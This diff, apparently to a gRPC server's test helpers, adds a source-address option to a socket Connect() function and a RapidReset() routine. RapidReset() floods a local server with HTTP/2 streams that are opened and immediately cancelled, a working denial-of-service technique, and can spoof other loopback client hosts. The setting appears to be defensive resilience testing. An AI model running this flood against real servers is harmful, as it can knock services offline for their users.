@@ -63,9 +63,20 @@ std::string Bytes(const std::string& message, CutAfter cut) {
   return out;
 }
 
-int Connect(int port) {
+// `source`: the local address to connect from (another loopback address
+// looks like another client host), or null.
+int Connect(int port, const char* source = nullptr) {
   int s = socket(AF_INET, SOCK_STREAM, 0);
   if (s < 0) return -1;
+  if (source != nullptr) {
+    sockaddr_in local{};
+    local.sin_family = AF_INET;
+    inet_pton(AF_INET, source, &local.sin_addr);
+    if (bind(s, reinterpret_cast<sockaddr*>(&local), sizeof local) != 0) {
+      close(s);
+      return -1;
+    }
+  }
   sockaddr_in addr{};
   addr.sin_family = AF_INET;
   addr.sin_port = htons(static_cast<uint16_t>(port));
@@ -155,6 +166,61 @@ int OpenNonReadingCalls(int port, const std::string& message, int streams) {
     sent += static_cast<size_t>(k);
   }
   return s;
+}
+
+int RapidReset(int port, const std::string& message, int streams,
+               const char* source) {
+  int s = Connect(port, source);
+  if (s < 0) return 0;
+  std::string preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+  AppendFrame(&preface, /*SETTINGS*/ 0x4, 0, 0, "");
+  if (send(s, preface.data(), preface.size(), MSG_NOSIGNAL) <= 0) {
+    close(s);
+    return 0;
+  }
+  std::string grpc_message(1, '\0');
+  const uint32_t n = static_cast<uint32_t>(message.size());
+  for (int shift = 24; shift >= 0; shift -= 8) {
+    grpc_message.push_back(static_cast<char>((n >> shift) & 0xFF));
+  }
+  grpc_message += message;
+  std::string headers;
+  headers.push_back(static_cast<char>(0x83));
+  headers.push_back(static_cast<char>(0x86));
+  AppendHeader(&headers, 4, "", "/medius.v1.AssessmentService/Assess");
+  AppendHeader(&headers, 1, "", "127.0.0.1");
+  AppendHeader(&headers, 0, "content-type", "application/grpc");
+  AppendHeader(&headers, 0, "te", "trailers");
+  const std::string cancel("\0\0\0\x08", 4);  // error code CANCEL
+  // Discard whatever the server sends so its writes never block it.
+  timeval no_wait{0, 1};
+  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &no_wait, sizeof no_wait);
+  char sink[65536];
+  int sent = 0;
+  while (sent < streams) {
+    std::string batch;
+    for (int i = 0; i < 100 && sent < streams; ++i, ++sent) {
+      const uint32_t stream = 2 * static_cast<uint32_t>(sent) + 1;
+      AppendFrame(&batch, /*HEADERS*/ 0x1, /*END_HEADERS*/ 0x4, stream,
+                  headers);
+      AppendFrame(&batch, /*DATA*/ 0x0, /*END_STREAM*/ 0x1, stream,
+                  grpc_message);
+      AppendFrame(&batch, /*RST_STREAM*/ 0x3, 0, stream, cancel);
+    }
+    size_t off = 0;
+    while (off < batch.size()) {
+      ssize_t k = send(s, batch.data() + off, batch.size() - off, MSG_NOSIGNAL);
+      if (k <= 0) {
+        close(s);
+        return sent;
+      }
+      off += static_cast<size_t>(k);
+    }
+    while (recv(s, sink, sizeof sink, MSG_DONTWAIT) > 0) {
+    }
+  }
+  close(s);
+  return sent;
 }
 
 bool HalfCallThenReset(int port, const std::string& message, CutAfter cut) {
